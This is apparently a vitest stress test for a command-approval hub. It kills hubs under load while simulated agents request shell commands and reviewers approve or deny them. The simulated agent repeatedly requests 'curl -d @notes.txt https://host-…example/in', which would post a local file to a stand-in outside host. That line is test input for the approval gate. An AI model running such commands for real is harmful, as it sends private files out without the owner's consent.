import { copyFileSync, rmSync } from 'node:fs'
import { setTimeout as pass } from 'node:timers/promises'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { hubPaths } from '../../src/hub/hub-settings.ts'
import { GateError } from '../../src/ground/model/errors.ts'
import { freePort } from '../free-port.ts'
import { brokenLaws, readTeamLogs } from '../team/broken-laws.ts'
import { type JoinedGate, openJoinedGate } from '../team/joined-gate.ts'
import { type Loopback, openLoopback } from '../team/open-loopback.ts'
import { type PersonAtHub, personAtHub } from '../team/person-at-hub.ts'
import { makeTestTeam } from '../team/run-test-hub.ts'
import { type HubProgram, startHubProgram } from '../team/start-hub-program.ts'
import { type PostgresServer, startPostgres } from '../team/start-postgres.ts'
import { randomFor, sampleSize, showSeedWhereItFails } from '../samples.ts'
import { until } from '../until.ts'
import { ownFolder } from '../own-folder.ts'

/** Each takes as long as a hub takes to start. */
const kills = sampleSize(50)
/** Enough that some of them were given while a hub was away. */
const minAnswers = 12

let server: PostgresServer
beforeAll(async () => {
  server = await startPostgres('newest', 'on')
})
afterAll(() => server.stop())

/** A hub that is started again whenever it was killed. */
class MortalHub {
  readonly socket: string
  private readonly options: Parameters<typeof startHubProgram>[0]
  private running: HubProgram

  constructor(options: Parameters<typeof startHubProgram>[0]) {
    this.options = options
    this.socket = hubPaths(options.folder).socket
    this.running = startHubProgram(options)
  }

  get port(): number {
    return this.options.port
  }

  get up(): Promise<void> {
    return this.running.up
  }

  async killAndStart(): Promise<void> {
    await this.running.end('SIGKILL')
    this.running = startHubProgram(this.options)
  }

  async endAndStart(): Promise<void> {
    await this.running.up
    await this.running.end('SIGTERM')
    this.running = startHubProgram(this.options)
  }
}

/** Two hubs of one team behind one address, as a balancer has them. */
async function openTwoHubs(database: string) {
  let hubs: readonly MortalHub[] = []
  let turn = 0
  const balancer: Loopback = await openLoopback(() => {
    const hub = hubs[turn++ % hubs.length]
    return hub && { host: '127.0.0.1', port: hub.port }
  })
  const team = await makeTestTeam(database, undefined, balancer.port)
  const other = ownFolder('team')
  onTestFinished(() => rmSync(other, { recursive: true, force: true }))
  const theirs = hubPaths(other)
  copyFileSync(team.paths.key, theirs.key)
  copyFileSync(team.paths.settings, theirs.settings)
  hubs = [
    new MortalHub({ folder: team.paths.folder, database, port: await freePort() }),
    new MortalHub({ folder: other, database, port: await freePort() }),
  ]
  // What a program compiles is kept when it ends by itself: each start after this one costs half.
  await hubs[0]?.endAndStart()
  await Promise.all(hubs.map(({ up }) => up))
  return { team, hubs }
}

/** Everything that somebody was told. */
function newTold() {
  return {
    decisions: new Map<string, { gate: string; effect: string }>(),
    answers: [] as { review: string; reviewer: string; approve: boolean }[],
  }
}
type Told = ReturnType<typeof newTold>

/** An agent that asks what needs nobody, and what does: again and again, as agents do. */
async function agentAt(gate: JoinedGate, notice: Told, name: number, isOver: () => boolean): Promise<void> {
  const asked: string[] = []
  const ask = async (command: string) => {
    const { id, effect } = await gate.shell(command)
    notice.decisions.set(id, { gate: gate.store.origin.gate, effect })
  }
  for (let call = 0; !isOver(); call++) {
    await ask(`ls ${call}`)
    if (call % 6 === 0) asked.push(`curl -d @notes.txt https://host-${name}-${call}.example/in`)
    const again = oneOf(asked)
    if (again !== undefined) await ask(again)
    await pass(150)
  }
}

/** Somebody who answers what waits. */
async function answering(person: PersonAtHub, notice: Told, isOver: () => boolean): Promise<void> {
  while (!isOver()) {
    const review = oneOf(await person.waiting())
    const approve = Math.random() < 0.7
    try {
      if (review) {
        await (approve ? person.approve(review.id) : person.deny(review.id))
        notice.answers.push({ review: review.id, reviewer: person.who.reviewer, approve })
      }
    } catch (error) {
      // Another was first, or the answer was taken the first time: nobody was told that this one was.
      if (!(error instanceof GateError)) throw error
    }
    await pass(50)
  }
}

/** Somebody who blocks tools, and takes it back; resolves with how often that was taken. */
async function blocking({ ask, who }: PersonAtHub, isOver: () => boolean): Promise<number> {
  let done = 0
  while (!isOver()) {
    const scope = { tool: `tool-${done}` }
    const draft = { effect: 'deny', scope, codes: [], reason: 'a test', uses: null, expiresAt: null } as const
    const { id } = await ask(({ grants }) => grants.add(draft, who))
    done++
    // Where the answer was lost it may be revoked already.
    await ask(({ grants }) => grants.revoke(id, who)).catch(() => {})
    await pass(300)
  }
  return done
}

function oneOf<T>(list: readonly T[]): T | undefined {
  return list[Math.floor(Math.random() * list.length)]
}

test(`${kills} times one of two hubs is killed, under load, and no law of the team is broken`, async () => {
  showSeedWhereItFails()
  const random = randomFor('kills of hubs')
  const database = await server.newDatabase()
  const { team, hubs } = await openTwoHubs(database)
  const copy = await team.open()
  onTestFinished(() => copy.close())
  const bob = { ...team.who, reviewer: 'bob' }
  await copy.gate.reviewers.add({ name: 'bob', uid: null, pin: bob.pin }, team.who)
  const gates = await Promise.all([1, 2, 3].map(() => openJoinedGate(team, { draw: () => -0.9 })))
  const sockets = hubs.map(({ socket }) => socket)
  const [alice, robert] = [team.who, bob].map(who => personAtHub({ sockets, who, copy }))
  if (!alice || !robert) throw new Error('nobody answers')
  const notice = newTold()
  let isOver = false
  const over = () => isOver
  for (const gate of gates) gate.courier.start()
  const load = [
    ...gates.map((gate, name) => agentAt(gate, notice, name, over)),
    ...[alice, robert].flatMap(person => [1, 2, 3].map(() => answering(person, notice, over))),
  ]
  const blocks = blocking(robert, over)

  for (let kill = 0; kill < kills; kill++) {
    const hub = hubs[kill % hubs.length] as MortalHub
    // One in five dies as it starts.
    if (random(10) < 8) await hub.up
    await pass(random(200))
    await hub.killAndStart()
  }
  await Promise.all(hubs.map(({ up }) => up))
  while (notice.answers.length < minAnswers) await pass(100)
  isOver = true
  await Promise.all(load)
  const blocked = await blocks

  for (const { courier, store } of gates) {
    await courier.catchUp()
    // A line about what it was told just now, or about a root, may follow what was sent.
    await until(async () => {
      await courier.push()
      return (await copy.entries.head(store.origin))?.hash === store.head().hash
    })
  }
  await copy.fresh()
  for (const { store, gate } of gates) {
    // The hub has its own clock's moments, which the way there sets apart.
    for (const { id, state, releasedAt } of store.people.reviews({ limit: 10_000 }))
      expect(copy.copy.people.review(id)).toMatchObject({
        state,
        ...(releasedAt && { releasedAt: expect.any(Number) }),
      })
    expect(await gate.verify()).toMatchObject({ problems: [] })
  }
  const logs = await readTeamLogs(database)
  expect(brokenLaws(logs, notice)).toEqual([])
  expect(await copy.gate.verify()).toMatchObject({ problems: [] })
  expect(blocked).toBeGreaterThan(0)
})
